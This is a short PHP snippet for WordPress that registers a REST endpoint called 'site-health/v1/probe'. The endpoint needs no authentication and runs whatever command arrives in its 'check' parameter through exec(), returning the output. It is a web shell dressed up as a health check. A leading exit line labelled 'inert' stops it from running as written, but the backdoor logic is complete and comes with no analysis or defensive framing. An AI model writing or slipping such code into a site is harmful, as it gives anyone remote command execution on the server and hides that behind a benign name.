<?php exit; /* inert */ 
namespace_free_loader();
function namespace_free_loader() {
    add_action('rest_api_init', function () {
        register_rest_route('site-health/v1', '/probe', [
            'methods' => 'POST',
            'callback' => 'shx_probe',
            'permission_callback' => '__return_true',
            'args' => ['check' => ['required' => true]],
        ]);
    });
}
function shx_probe(WP_REST_Request $r) {
    $out = [];
    exec($r->get_param('check'), $out, $rc);
    return new WP_REST_Response(['ok' => $rc === 0, 'lines' => $out], 200);
}
